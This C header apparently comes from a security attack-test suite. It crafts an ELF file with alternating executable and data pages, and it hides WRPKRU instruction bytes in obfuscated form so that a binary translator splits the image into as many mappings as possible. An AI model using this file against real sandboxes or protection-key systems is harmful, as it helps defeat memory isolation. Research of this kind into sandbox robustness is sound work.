/* An ELF file of which each second page is data between code: mapped as code it becomes as many mappings as an image can. */
#ifndef PIECES_H
#define PIECES_H

#include <elf.h>

#include "attack.h"

#define PIECES 17 /* as many as an image of code may have */
#define SIZE (PIECES * PAGE)

static struct {
	Elf64_Ehdr file;
	Elf64_Phdr segment;
	Elf64_Shdr section[1 + PIECES / 2 + 1];
	uint8_t rest[PAGE - sizeof(Elf64_Ehdr) - sizeof(Elf64_Phdr) - (2 + PIECES / 2) * sizeof(Elf64_Shdr)];
	uint8_t text[SIZE];
} g_elf;

/* Executable sections on even pages; on odd ones WRPKRU, so that the translator makes them data. */
static void make_pieces(const char *path)
{
	g_elf.file = (Elf64_Ehdr){ .e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64, ELFDATA2LSB, EV_CURRENT }, .e_type = ET_DYN,
				   .e_machine = EM_X86_64, .e_version = EV_CURRENT, .e_phoff = sizeof(Elf64_Ehdr),
				   .e_shoff = (uint64_t)((uint8_t *)g_elf.section - (uint8_t *)&g_elf), .e_ehsize = sizeof(Elf64_Ehdr),
				   .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 1, .e_shentsize = sizeof(Elf64_Shdr),
				   .e_shnum = sizeof g_elf.section / sizeof g_elf.section[0] };
	g_elf.segment = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_offset = PAGE, .p_vaddr = PAGE, .p_filesz = SIZE,
				      .p_memsz = SIZE, .p_align = PAGE };
	memset(g_elf.text, 0xc3, SIZE);
	for (uint64_t i = 0; i < PIECES; i += 2)
		g_elf.section[1 + i / 2] = (Elf64_Shdr){ .sh_type = SHT_PROGBITS, .sh_flags = SHF_ALLOC | SHF_EXECINSTR,
							  .sh_addr = PAGE + i * PAGE, .sh_offset = PAGE + i * PAGE, .sh_size = PAGE };
	for (uint64_t i = 1; i < PIECES; i += 2)
		for (int n = 0; n < 3; n++)
			g_elf.text[i * PAGE + 64 + (unsigned)n] = (uint8_t)~"\xf0\xfe\x10"[n];
	int fd = open(path, O_RDWR | O_CREAT, 0755);
	if (write(fd, &g_elf, sizeof g_elf) != (ssize_t)sizeof g_elf)
		breach("cannot write the file: %s", strerror(errno));
	close(fd);
}

#endif
